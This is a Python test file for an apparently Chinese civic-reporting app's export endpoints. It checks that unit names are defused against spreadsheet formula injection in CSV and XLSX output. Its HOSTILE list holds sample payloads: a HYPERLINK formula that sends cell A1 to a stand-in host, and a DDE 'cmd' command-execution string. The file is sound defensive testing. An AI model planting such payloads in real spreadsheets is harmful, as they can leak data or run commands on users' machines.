"""Hardening finding 9: names from chat must never become spreadsheet formulas in an export."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import httpx
import pytest
from openpyxl import load_workbook

from api import exports
from tests.api.conftest import Data, Staff
from wenming.settings import Settings

pytestmark = pytest.mark.anyio

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_text_defuses_every_formula_start_for_csv(value: str) -> None:
    assert exports.cell_text(value, for_csv=True) == "'" + value
    assert exports.cell_text("县文化馆", for_csv=True) == "县文化馆"
    assert exports.cell_text(12.5, for_csv=True) == 12.5


async def test_hostile_unit_names_are_text_in_xlsx_and_csv(
    client: httpx.AsyncClient, staff: Staff, data: Data, settings: Settings
) -> None:
    day = datetime.now(settings.tz).date().replace(day=1)
    for name in HOSTILE:
        unit = data.unit(name.strip())
        data.report("开展文明实践活动", unit=unit, day=day)
    month = day.strftime("%Y-%m")
    h = staff.headers("viewer")
    xlsx = await client.get(f"/api/v1/exports/monthly.xlsx?month={month}", headers=h)
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [ws.cell(row=r, column=2) for r in range(3, ws.max_row + 1) if ws.cell(row=r, column=2).value]
    assert {c.value for c in cells} >= {n.strip() for n in HOSTILE}
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    raw = await client.get(f"/api/v1/exports/monthly.csv?month={month}", headers=h)
    names = [row[1] for row in csv.reader(io.StringIO(raw.content.decode("utf-8-sig"))) if len(row) > 1][1:]
    assert all(not n.startswith(exports.FORMULA_STARTS) for n in names), names
    assert '\'=HYPERLINK("http://x.example/?"&A1,"点我")' in names
